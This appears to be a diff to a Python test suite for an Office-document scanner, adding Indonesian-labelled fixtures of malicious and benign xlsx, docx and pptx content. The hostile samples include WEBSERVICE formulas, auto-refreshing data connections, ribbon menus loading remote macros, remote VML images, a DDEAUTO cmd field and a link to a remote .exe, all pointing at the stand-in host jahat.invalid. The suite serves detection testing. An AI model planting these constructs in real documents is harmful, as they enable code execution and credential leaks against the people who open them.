@@ -67,6 +67,24 @@ def connection(words: str) -> Made:
     return sheet(connections=f'<connections {S}><connection id="1">{words}</connection></connections>'.encode())
 
 
+def connected(about: str, words: str = "") -> Made:
+    text = f'<connections {S}><connection id="1" refreshOnLoad="1" {about}>{words}</connection></connections>'
+    return sheet(connections=text.encode())
+
+
+def on_sheet(content: str) -> Made:
+    return sheet(worksheets__sheet1=f"<worksheet {S}>{content}</worksheet>".encode())
+
+
+def menu(about: str, content: str = "") -> Made:
+    text = f'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" {about}>{content}</customUI>'
+    return partial(office, extra={"customUI/customUI.xml": text.encode()})
+
+
+def drawn(about: str, element: str = "imagedata") -> Made:
+    return body(f'<w:pict xmlns:v="v" xmlns:o="o" xmlns:r="r"><v:shape><v:{element} {about}/></v:shape></w:pict>')
+
+
 def action(words: str) -> Made:
     return slides(slides__slide1=f'<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick {words}/></p:sld>'.encode())
 
@@ -117,6 +135,8 @@ FORMULA = "memuat rumus yang mengambil isi dari luar (misalnya WEBSERVICE)"
 PRINTER = "memuat kolom PRINT yang mengirim perintah ke pencetak"
 RUNS = "memuat tautan yang menjalankan program"
 CHUNK = "menyisipkan dokumen lain yang tidak terbaca bersama isinya"
+RIBBON = "memuat menu yang menjalankan makro dari alamat lain"
+OBJECT = "menyimpan objek OLE (berkas lain) di dalamnya"
 ADD_IN = "memuat add-in web"
 PROGRAM = "menyimpan program di dalamnya"
 SCRIPT = "memuat skrip JavaScript"
@@ -206,9 +226,31 @@ ACTIVE: dict[str, tuple[Made, str]] = {
     "rumus-web.xlsx": (formula('_xlfn.WEBSERVICE("http://jahat.invalid/?"&amp;A1)'), FORMULA),
     "rumus-sandi.xlsx": (formula("&#87;EBSERVICE(A1)"), FORMULA),
     "rumus-rtd.xlsx": (formula('SUM(1,RTD("x",,"y"))'), FORMULA),
+    "koneksi-teks.xlsx": (connected('type="6"', r'<textPr sourceFile="\\jahat.invalid\s\a.txt"/>'), DATA),
+    "koneksi-odc.xlsx": (connected('type="1" odcFile="http://jahat.invalid/a.odc"'), DATA),
+    "koneksi-berkas.xlsx": (connected(r'type="5" sourceFile="\\jahat.invalid\s\a.mdb"'), DATA),
+    **{
+        f"rumus-{name}.xlsx": (on_sheet(f'<{name}>_xlfn.WEBSERVICE("http://jahat.invalid")</{name}>'), FORMULA)
+        for name in ("formula", "formula1", "formula2", "calculatedColumnFormula", "totalsRowFormula")
+    },
+    "rumus-tautan.xlsx": (formula('IF(1,HYPERLINK( "\\\\jahat.invalid\\s\\a.exe","Buka"))'), RUNS),
     "nama-otomatis.xlsx": (
         sheet(names=f'<workbook {S}><definedName name="_xlnm.Auto_Open">A1</definedName></workbook>'.encode()),
         FORMULA,
+    ),
+    "menu-jauh.docx": (menu('onLoad="https://jahat.invalid/a.dotm!mulai"'), RIBBON),
+    "menu-tombol.docx": (menu("", r'<button id="a" onAction="\\jahat.invalid\a.dotm!mulai"/>'), RIBBON),
+    "menu-pembuka.docx": (
+        body('<x:customUI xmlns:x="x"/>' + mark("begin") + run("DDEAUTO cmd a") + mark("end")),
+        DDE,
+    ),
+    "vml-src.docx": (drawn('src="http://jahat.invalid/a.png"'), PICTURE),
+    "vml-dua-nama.docx": (drawn('src="http://jahat.invalid/a.png" o:src="a.png"'), PICTURE),
+    "vml-isian.docx": (drawn(r'o:href="\\jahat.invalid\a.png"', "fill"), PICTURE),
+    "objek-dalam.docx": (word_with("oleObject", "media/a.dat", ""), OBJECT),
+    "sisipan-samaran.docx": (
+        partial(office, extra={"word/media/a.dat": formula("WEBSERVICE(A1)")()}),
+        f"menyisipkan a.dat, yang {FORMULA}",
     ),
     "paparan-program.pptx": (action('action="ppaction://program"'), RUNS),
     "paparan-makro.pptx": (action('action="ppaction://macro?name=a"'), RUNS),
@@ -304,6 +346,14 @@ ORDINARY: dict[str, Made] = {
     "rumus.xlsx": formula('IF(A1="WEBSERVICE(x)|y!z",HYPERLINK("https://a.go.id","RTD(1)"),RECALL(1))'),
     "lembar-bernama.xlsx": formula("'Data|2025'!A1+'Rekap'!B2"),
     "model-data.xlsx": connection('<dbPr connection="Data Model Connection" command="Model" commandType="1"/>'),
+    "teks-lokal.xlsx": connected('type="6"', r'<textPr sourceFile="D:\OPD\data.txt"/>'),
+    "syarat.xlsx": on_sheet(
+        '<cfRule><formula>LEN(A1)&gt;0</formula></cfRule><dataValidation><formula1>"Ya,Tidak"</formula1></dataValidation>'
+    ),
+    "rumus-tautan.xlsx": formula('HYPERLINK("#Lembar1!A1","www.detik.com")&amp;HYPERLINK("www.detik.com")'),
+    "menu-sendiri.docx": menu('onLoad="Menu.Mulai"', '<button idQ="x:a" onAction="Dokumen.Cetak"/>'),
+    "vml-surel.docx": drawn('r:id="rId4" o:href="cid:image001.png@01D9C0A1.5B0E7A60" o:title="logo"'),
+    "gambar-bagan.docx": partial(office, extra={"word/media/bagan.dat": formula("SUM(A1:A9)")()}),
     "buku-lokal.xlsx": partial(
         office,
         SHEET,
